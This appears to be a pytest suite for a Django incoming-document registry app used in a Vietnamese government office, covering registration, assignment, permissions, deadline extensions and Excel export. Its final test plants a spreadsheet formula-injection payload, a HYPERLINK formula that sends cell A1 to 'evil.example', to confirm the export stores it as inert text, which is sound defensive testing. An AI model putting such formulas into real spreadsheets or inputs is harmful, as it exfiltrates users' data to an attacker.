"""Incoming pages: paper entry, registration, assignment, Việc của tôi, permissions, register."""

import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from vanban.registry.models import IncomingDocument

pytestmark = pytest.mark.django_db
PASSWORD = "mat-khau-thu-nghiem-2026"


def login(client, username):
    client.logout()
    assert client.login(username=username, password=PASSWORD)
    return client


@pytest.fixture
def paper(client, office, sample_pdf):
    login(client, "lan")
    upload = io.BytesIO(sample_pdf)
    upload.name = "ban-quet.pdf"
    response = client.post(
        reverse("web:incoming_paper"),
        {
            "sender_name": "Công ty Cổ phần Than Hà Lầm",
            "code_number": "125",
            "code_notation": "THL-VP",
            "issued_on": "20/11/2026",
            "subject": "V/v đề nghị hỗ trợ thủ tục đất đai",
            "file": upload,
        },
        follow=True,
    )
    assert "Đã nhập văn bản đến bản giấy." in response.content.decode()
    return IncomingDocument.objects.get()


def test_clerk_enters_a_paper_document_and_registers_it(client, paper):
    assert paper.source == "ban-giay" and paper.so_ky_hieu == "125/THL-VP"
    assert paper.issued_on.strftime("%d/%m/%Y") == "20/11/2026"
    response = client.post(reverse("web:incoming_action", args=[paper.pk, "vao-so"]), follow=True)
    page = response.content.decode()
    assert "Đã vào sổ văn bản đến." in page and "số đến 01" in page


def test_leader_assigns_and_the_lead_finds_it_in_my_work(client, office, paper):
    client.post(reverse("web:incoming_action", args=[paper.pk, "vao-so"]))
    login(client, "minh")
    response = client.post(
        reverse("web:incoming_action", args=[paper.pk, "phan-cong"]),
        {
            "lead_person": office.tuan.pk,
            "informed": [office.lan.pk],
            "deadline": "",
            "instructions": "Tham mưu văn bản trả lời.",
        },
        follow=True,
    )
    page = response.content.decode()
    assert "Đã phân công xử lý." in page and "Chủ trì: Vũ Anh Tuấn" in page
    login(client, "tuan")
    page = client.get(reverse("web:my_work")).content.decode()
    assert "Văn bản đến tôi chủ trì xử lý" in page and "V/v đề nghị hỗ trợ thủ tục đất đai" in page


def test_an_unassigned_officer_and_another_agency_get_404(client, office, paper):
    login(client, "tuan")
    assert client.get(reverse("web:incoming", args=[paper.pk])).status_code == 404
    login(client, "hoa")
    assert client.get(reverse("web:incoming", args=[paper.pk])).status_code == 404
    assert client.post(reverse("web:incoming_action", args=[paper.pk, "vao-so"])).status_code == 404


def test_a_wrong_step_is_a_message_not_an_error(client, office, paper):
    login(client, "minh")  # the leader tries to register: the clerk's job
    response = client.post(reverse("web:incoming_action", args=[paper.pk, "vao-so"]), follow=True)
    assert response.status_code == 200
    assert "chỉ văn thư được làm việc này" in response.content.decode()


def test_incoming_register_exports_the_spec_columns(client, office, paper):
    client.post(reverse("web:incoming_action", args=[paper.pk, "vao-so"]))
    response = client.get(reverse("web:incoming_register"), {"xuat": "xlsx"})
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in ws[2]] == [
        "Ngày đến",
        "Số đến",
        "Tác giả",
        "Số, ký hiệu",
        "Ngày tháng văn bản",
        "Tên loại và trích yếu nội dung",
        "Đơn vị hoặc người nhận",
        "Ký nhận",
        "Ghi chú",
    ]
    row = [c.value for c in ws[3]]
    assert row[1:4] == [1, "Công ty Cổ phần Than Hà Lầm", "125/THL-VP"] and "Bản giấy" in row[8]
    assert ws["B3"].number_format == "00"  # a number Excel sorts and sums, shown "01"
    assert ws["E3"].is_date and ws["E3"].value.date() == dt.date(2026, 11, 20)
    assert ws["E3"].number_format == "dd/mm/yyyy"
    assert ws["A3"].is_date  # the arrival time


def test_the_lead_asks_for_more_time_and_the_leader_decides_on_the_page(client, office, paper):
    client.post(reverse("web:incoming_action", args=[paper.pk, "vao-so"]))
    login(client, "minh")
    client.post(
        reverse("web:incoming_action", args=[paper.pk, "phan-cong"]),
        {"lead_person": office.tuan.pk, "deadline": "31/12/2099"},
    )
    login(client, "tuan")
    page = client.post(
        reverse("web:incoming_action", args=[paper.pk, "xin-gia-han"]),
        {"new_deadline": "15/01/2100", "reason": "Chờ ý kiến liên ngành"},
        follow=True,
    ).content.decode()
    assert "Đã gửi đề nghị gia hạn." in page
    login(client, "minh")
    assert "Đề nghị gia hạn chờ tôi quyết định" in client.get(reverse("web:my_work")).content.decode()
    ext = paper.extensions.get()
    page = client.post(
        reverse("web:incoming_action", args=[paper.pk, "dong-y-gia-han"]),
        {"extension": ext.pk, "note": "Đồng ý"},
        follow=True,
    ).content.decode()
    assert "Đã quyết định gia hạn." in page and "15/01/2100" in page


def test_clerk_drops_an_e_mail_with_a_pdf(client, office, sample_pdf):
    from email.message import EmailMessage

    msg = EmailMessage()
    msg["From"], msg["Subject"] = "Ban Quản lý dự án <bqlda@example.vn>", "V/v bàn giao mặt bằng"
    msg.set_content("Gửi kèm văn bản.")
    msg.add_attachment(sample_pdf, maintype="application", subtype="pdf", filename="cv.pdf")
    login(client, "lan")
    upload = io.BytesIO(msg.as_bytes())
    upload.name = "thu.eml"
    page = client.post(reverse("web:incoming_email"), {"eml": upload}, follow=True).content.decode()
    assert "Đã nhận văn bản từ thư điện tử." in page and "Ban Quản lý dự án" in page and "Thư điện tử" in page


def test_leader_delegates_from_my_work_and_the_deputy_sees_what_to_assign(client, office, paper):
    from django.utils import timezone

    client.post(reverse("web:incoming_action", args=[paper.pk, "vao-so"]))
    login(client, "minh")
    today = timezone.localdate().strftime("%d/%m/%Y")
    page = client.post(
        reverse("web:delegate"),
        {"deputy": office.tuan.pk, "scope": "phan-cong", "starts_on": today, "ends_on": today},
        follow=True,
    ).content.decode()
    assert "Đã ủy quyền cho Vũ Anh Tuấn." in page
    login(client, "tuan")
    page = client.get(reverse("web:my_work")).content.decode()
    assert "Tôi đang được ủy quyền" in page and "Văn bản đến cần phân công" in page
    page = client.get(reverse("web:incoming", args=[paper.pk])).content.decode()
    assert 'id="assign-form"' in page


def test_the_clerk_sees_secret_documents_refused_on_arrival(client, office, personas):
    from vanban.connector.models import ReceivedPackage

    ReceivedPackage.objects.create(
        agency=personas.so_noi_vu,
        sender_code="000.00.03.H99",
        document_id="d-mat",
        dedupe_key="k1",
        business_key="b1",
        code_notation="7/KH-SKHCN",
        sha256="0" * 64,
        size=10,
        state="secret",
        verification={"secrecy": {"level": "mat", "level_name": "Mật", "where": "trang 1 của tệp PDF"}},
    )
    page = login(client, "lan").get(reverse("web:incoming_list")).content.decode()
    notice = page.split('id="refused-secret"')[1].split("</section>")[0]
    assert "000.00.03.H99, số 7/KH-SKHCN (Mật, trang 1 của tệp PDF)" in notice and "bản giấy" in notice
    assert 'id="refused-secret"' not in login(client, "tuan").get(reverse("web:incoming_list")).content.decode()


def test_a_sender_or_subject_starting_with_an_equals_sign_is_text_in_the_excel_export(client, office, sample_pdf):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    login(client, "lan")
    upload = io.BytesIO(sample_pdf)
    upload.name = "ban-quet.pdf"
    form = {"sender_name": formula, "code_number": "7", "code_notation": "X", "issued_on": "20/11/2026"}
    client.post(reverse("web:incoming_paper"), {**form, "subject": "=1+1", "file": upload}, follow=True)
    doc = IncomingDocument.objects.get()
    client.post(reverse("web:incoming_action", args=[doc.pk, "vao-so"]))
    response = client.get(reverse("web:incoming_register"), {"xuat": "xlsx"})
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    sender, subject = ws.cell(row=3, column=3), ws.cell(row=3, column=6)
    assert (sender.data_type, sender.value) == ("s", formula)  # a string cell: shown, never evaluated
    assert subject.data_type == "s" and subject.value.endswith("=1+1")
